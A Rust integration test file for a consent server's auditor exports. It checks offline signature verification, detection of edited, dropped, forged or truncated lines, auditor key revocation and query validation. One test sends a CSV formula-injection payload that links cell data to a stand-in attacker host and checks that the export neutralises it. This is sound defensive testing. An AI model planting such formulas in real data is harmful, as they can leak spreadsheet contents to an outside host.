//! Auditors: keys, the export that proves itself, and its verification
//! offline with nothing but the file and the JWKS.

use consent_server::ledger::{FileError, Format, verify_export};
use consent_server::tokens::keys_from_jwks;
use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, all, spawn_app};
use crate::on_both_backends;

on_both_backends!(
    export_round_trip_verifies_offline_and_every_tampering_is_named,
    a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_verifies,
);

async fn a_formula_in_a_user_agent_is_inert_in_the_csv_and_the_export_still_verifies(
    backend: Backend,
) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let key = app.add_auditor("dpo");
    let payload = r#"=HYPERLINK("http://attacker.example/?"&A1,"click")"#;
    let response = app
        .client
        .post(app.url("/v1/consents"))
        .header("User-Agent", payload)
        .json(&crate::helpers::consent_body(all("www", true)))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 201);
    let csv = export(&app, &key, "format=csv").await;
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let ua_column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "user_agent")
        .unwrap();
    let cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[ua_column].to_owned())
        .filter(|c| !c.is_empty())
        .collect();
    assert_eq!(
        cells,
        [format!("'{payload}")],
        "the cell cannot start a formula"
    );
    for record in csv::Reader::from_reader(csv.as_slice()).records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "no cell starts a formula: {cell}"
            );
        }
    }
    let report = verify(&app.jwks().await, &csv, Format::Csv).expect("the export verifies");
    assert_eq!(report.events, 1);
    let ndjson = export(&app, &key, "format=ndjson").await;
    assert!(
        String::from_utf8(ndjson)
            .unwrap()
            .contains(r#""user_agent":"=HYPERLINK("#),
        "NDJSON keeps the stored value as it is"
    );
}

async fn export(app: &TestApp, key: &str, query: &str) -> Vec<u8> {
    let response = app
        .get_with_key(&format!("/v1/audit/events?{query}"), key)
        .await;
    assert_eq!(response.status(), 200, "export {query}");
    response.bytes().await.unwrap().to_vec()
}

fn verify(
    app_jwks: &Value,
    bytes: &[u8],
    format: Format,
) -> Result<consent_server::ledger::OfflineReport, String> {
    verify_export(bytes, format, &keys_from_jwks(app_jwks), "nexxt-consent").map_err(|e| match e {
        FileError::Broken(b) => b.to_string(),
        FileError::Io(e) => e.to_string(),
    })
}

fn lines(bytes: &[u8]) -> Vec<String> {
    String::from_utf8(bytes.to_vec())
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect()
}

fn join(lines: &[String]) -> Vec<u8> {
    (lines.join("\n") + "\n").into_bytes()
}

async fn export_round_trip_verifies_offline_and_every_tampering_is_named(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let key = app.add_auditor("dpo");
    for i in 0..6 {
        app.consent(all("www", i % 2 == 0)).await;
    }
    let checkpoint = app
        .client
        .post(app.url("/v1/audit/checkpoints"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(checkpoint.status(), 201);
    let erased = app.consent(all("www", true)).await;
    app.delete_consent(
        erased["consent_id"].as_str().unwrap(),
        erased["token"].as_str(),
    )
    .await;
    for _ in 0..3 {
        app.consent(all("www", true)).await;
    }
    let jwks = app.jwks().await;

    let ndjson = export(&app, &key, "format=ndjson").await;
    let report = verify(&jwks, &ndjson, Format::Ndjson).expect("intact ndjson export verifies");
    assert_eq!(
        (report.events, report.checkpoints, report.chains),
        (11, 1, 1)
    );
    let csv = export(&app, &key, "format=csv").await;
    assert_eq!(
        verify(&jwks, &csv, Format::Csv)
            .expect("intact csv export verifies")
            .events,
        11
    );

    // The CLI, offline: only the file and the JWKS.
    let dir = &app.data_dir;
    std::fs::write(dir.join("export.ndjson"), &ndjson).unwrap();
    std::fs::write(dir.join("export.csv"), &csv).unwrap();
    std::fs::write(dir.join("jwks.json"), jwks.to_string()).unwrap();
    for file in ["export.ndjson", "export.csv"] {
        let out = offline_cli(&app, file);
        assert!(
            out.status.success(),
            "{file}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    }

    // Line 1 is the checkpoint, line 2 the policy document, lines 3.. the
    // events (vector index + 1), the last the seal. In the CSV the header
    // comes first.
    let original = lines(&ndjson);
    let edit = |n: usize| {
        let mut l = original.clone();
        l[n] = l[n]
            .replace("\"analytics\":true", "\"analytics\":false")
            .replace(
                "\"analytics\":false,\"experience\":false",
                "\"analytics\":true,\"experience\":false",
            );
        l
    };
    let mut dropped = original.clone();
    dropped.remove(4);
    let mut swapped = original.clone();
    swapped.swap(3, 4);
    // A forged event squeezed in before the real one at that position.
    let mut inserted = original.clone();
    inserted.insert(5, edit(5)[5].clone());
    let mut truncated = original.clone();
    truncated.pop();
    let cases: Vec<(&str, Vec<String>, &str)> = vec![
        ("edited field", edit(3), "line 4 (chain"),
        ("dropped line", dropped, "line 5 (chain"),
        ("swapped lines", swapped, "line 4 (chain"),
        ("inserted line", inserted, "line 6 (chain"),
        ("cut after the last checkpoint", truncated, "no seal"),
    ];
    for (case, tampered, expected) in cases {
        let error = verify(&jwks, &join(&tampered), Format::Ndjson).expect_err(case);
        assert!(error.contains(expected), "{case}: {error}");
    }
    let csv_lines = lines(&csv);
    let mut csv_edited = csv_lines.clone();
    csv_edited[5] = csv_edited[5].replacen("\"\"analytics\"\":true", "\"\"analytics\"\":false", 1);
    assert!(
        csv_edited[5] != csv_lines[5],
        "the CSV edit changed something"
    );
    let error = verify(&jwks, &join(&csv_edited), Format::Csv).expect_err("edited csv");
    assert!(error.contains("line 6 (chain"), "csv: {error}");
    let mut csv_dropped = csv_lines.clone();
    csv_dropped.remove(4);
    let error = verify(&jwks, &join(&csv_dropped), Format::Csv).expect_err("dropped csv line");
    assert!(error.contains("line 5 (chain"), "csv: {error}");
    std::fs::write(dir.join("export.ndjson"), join(&edit(3))).unwrap();
    let out = offline_cli(&app, "export.ndjson");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("EXPORT TAMPERED: line 4"));
}

fn offline_cli(app: &TestApp, file: &str) -> std::process::Output {
    let input = app.data_dir.join(file);
    let jwks = app.data_dir.join("jwks.json");
    std::process::Command::new(env!("CARGO_BIN_EXE_consent-server"))
        .args([
            "audit",
            "verify",
            "--input",
            input.to_str().unwrap(),
            "--jwks",
            jwks.to_str().unwrap(),
        ])
        .output()
        .unwrap()
}

#[tokio::test]
async fn site_and_period_filters_elide_other_events_and_still_verify() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    let key = app.add_auditor("dpo");
    app.consent(all("www", true)).await;
    let app_body = json!({"site": "app", "policy_version": crate::helpers::current_version("app"), "choices": {"necessary": true, "support": true}});
    assert_eq!(app.post_consent(&app_body).await.status(), 201);
    app.consent(all("www", false)).await;
    let bytes = export(
        &app,
        &key,
        "site=www&from=2000-01-01T00:00:00Z&to=2999-01-01T00:00:00Z",
    )
    .await;
    let report =
        verify(&app.jwks().await, &bytes, Format::Ndjson).expect("filtered export verifies");
    assert_eq!((report.events, report.elided), (2, 1));
    let text = String::from_utf8(bytes).unwrap();
    assert!(
        !text.contains("\"site\":\"app\""),
        "the other site's event is elided, not exported"
    );
    let empty = export(&app, &key, "from=2999-01-01T00:00:00Z").await;
    assert_eq!(
        verify(&app.jwks().await, &empty, Format::Ndjson)
            .expect("an empty period is sealed too")
            .events,
        0
    );
}

#[tokio::test]
async fn every_audit_endpoint_needs_a_valid_unrevoked_key_and_exports_are_logged() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    let key = app.add_auditor("dpo");
    let endpoints = [
        ("GET", "/v1/audit/events"),
        ("GET", "/v1/audit/checkpoints"),
        ("POST", "/v1/audit/checkpoints"),
    ];
    let call = |method: &str, path: &str, key: Option<&str>| {
        let request = if method == "GET" {
            app.client.get(app.url(path))
        } else {
            app.client.post(app.url(path))
        };
        let request = match key {
            Some(k) => request.bearer_auth(k),
            None => request,
        };
        request.send()
    };
    for (method, path) in endpoints {
        assert_eq!(
            call(method, path, None).await.unwrap().status(),
            401,
            "{method} {path} without key"
        );
        assert_eq!(
            call(method, path, Some("nxa_wrong"))
                .await
                .unwrap()
                .status(),
            401,
            "{method} {path} wrong key"
        );
        assert!(
            call(method, path, Some(&key))
                .await
                .unwrap()
                .status()
                .is_success(),
            "{method} {path} with key"
        );
    }
    let bad = app
        .get_with_key("/v1/audit/events?from=yesterday", &key)
        .await;
    assert_eq!(bad.status(), 400);
    let revoke = app.cli(&["auditors", "revoke", "dpo"]);
    assert!(revoke.status.success());
    for (method, path) in endpoints {
        assert_eq!(
            call(method, path, Some(&key)).await.unwrap().status(),
            401,
            "{method} {path} revoked"
        );
    }
    let log = consent_server::storage::audit_entries(&app.db)
        .await
        .unwrap();
    assert_eq!(
        log.iter()
            .filter(|(who, action, _, _)| who == "dpo" && action == "export")
            .count(),
        1
    );
}

#[tokio::test]
async fn cli_export_verifies_offline() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    for _ in 0..3 {
        app.consent(all("www", true)).await;
    }
    let out = app.data_dir.join("cli.csv");
    let output = app.cli(&[
        "audit",
        "export",
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let bytes = std::fs::read(&out).unwrap();
    assert_eq!(
        verify(&app.jwks().await, &bytes, Format::Csv)
            .unwrap()
            .events,
        3
    );
}

#[tokio::test]
async fn a_time_bound_the_ledger_cannot_hold_is_a_400_naming_the_field() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    let key = app.add_auditor("dpo");
    app.consent(all("www", true)).await;
    for path in ["/v1/audit/events", "/v1/audit/stats", "/audit/report"] {
        for (field, value) in [
            ("from", "9999-12-31T23:59:59-01:00"),
            ("to", "0000-01-01T00:00:00%2B01:00"),
            ("from", "2026-02-30T00:00:00Z"),
        ] {
            let response = app
                .get_with_key(&format!("{path}?{field}={value}"), &key)
                .await;
            assert_eq!(response.status(), 400, "{path} {field}={value}");
            let problem: Value = response.json().await.unwrap();
            assert!(
                problem["detail"]
                    .as_str()
                    .unwrap()
                    .starts_with(&format!("`{field}`")),
                "{problem}"
            );
        }
    }
    let open_ended = app
        .get_with_key("/v1/audit/events?to=9999-12-31T23:59:59Z", &key)
        .await;
    assert_eq!(
        open_ended.status(),
        200,
        "the last representable second is fine"
    );
}

#[tokio::test]
async fn statements_that_are_unsigned_forged_foreign_or_from_another_export_are_named() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    let key = app.add_auditor("dpo");
    for _ in 0..3 {
        app.consent(all("www", true)).await;
    }
    let earlier = lines(&export(&app, &key, "format=ndjson").await);
    let checkpoint = app
        .client
        .post(app.url("/v1/audit/checkpoints"))
        .bearer_auth(&key)
        .send()
        .await
        .unwrap();
    assert_eq!(checkpoint.status(), 201);
    for _ in 0..2 {
        app.consent(all("www", false)).await;
    }
    let jwks = app.jwks().await;
    let original = lines(&export(&app, &key, "format=ndjson").await);
    verify(&jwks, &join(&original), Format::Ndjson).expect("intact");
    let (first, last) = (0, original.len() - 1);
    assert!(original[first].contains(r#""type":"checkpoint""#));
    assert!(original[last].contains(r#""type":"seal""#));

    let edit_line = |index: usize, change: &dyn Fn(&mut Value)| {
        let mut all = original.clone();
        let mut line: Value = serde_json::from_str(&all[index]).unwrap();
        change(&mut line);
        all[index] = line.to_string();
        all
    };
    let foreign_signature = |line: &mut Value| {
        let token = line["token"].as_str().unwrap();
        let payload = token.split('.').nth(1).unwrap();
        let claims: Value = serde_json::from_slice(
            &base64::Engine::decode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, payload)
                .unwrap(),
        )
        .unwrap();
        let other =
            consent_server::tokens::SigningKey::load_or_generate(&crate::helpers::temp_dir())
                .unwrap();
        line["token"] = other.sign(&claims).into();
    };
    let mut other_seal = original.clone();
    other_seal[last].clone_from(earlier.last().unwrap());
    let cases: Vec<(&str, Vec<String>, &str)> = vec![
        (
            "checkpoint without its signature",
            edit_line(first, &|l| l["token"] = Value::Null),
            "line 1 (chain",
        ),
        (
            "seal with a forged signature",
            edit_line(last, &|l| {
                let token = l["token"].as_str().unwrap().to_owned();
                let (signed, signature) = token.rsplit_once('.').unwrap();
                let flipped: String = signature
                    .chars()
                    .enumerate()
                    .map(|(i, c)| {
                        if i == 10 {
                            if c == 'A' { 'B' } else { 'A' }
                        } else {
                            c
                        }
                    })
                    .collect();
                l["token"] = format!("{signed}.{flipped}").into();
            }),
            "the signature does not verify",
        ),
        (
            "seal signed by a key the JWKS does not hold",
            edit_line(last, &foreign_signature),
            "which the JWKS does not hold",
        ),
        (
            "the seal of an earlier export",
            other_seal,
            "but was sealed at seq 3",
        ),
        (
            "checkpoint line that says another hash than it signed",
            edit_line(first, &|l| l["hash"] = "0".repeat(64).into()),
            "does not say what its signature says",
        ),
    ];
    for (case, tampered, expected) in cases {
        let error = verify(&jwks, &join(&tampered), Format::Ndjson).expect_err(case);
        assert!(error.contains(expected), "{case}: {error}");
    }
    let unsigned = edit_line(first, &|l| l["token"] = Value::Null);
    let error = verify(&jwks, &join(&unsigned), Format::Ndjson).unwrap_err();
    assert!(error.ends_with("no signature"), "{error}");
}

#[tokio::test]
async fn a_query_string_that_does_not_parse_is_a_problem_json_400() {
    let app = spawn_app(Backend::Sqlite).await.unwrap();
    let key = app.add_auditor("dpo");
    for path in [
        "/v1/audit/events?site=www&site=app",
        "/v1/audit/stats?from=a&from=b",
        "/my-consent?lang=nl&lang=en",
    ] {
        let response = app.get_with_key(path, &key).await;
        assert_eq!(response.status(), 400, "{path}");
        assert_eq!(
            response.headers()["content-type"],
            "application/problem+json",
            "{path}"
        );
        let problem: Value = response.json().await.unwrap();
        assert!(
            problem["detail"].as_str().unwrap().contains("query string"),
            "{problem}"
        );
    }
}
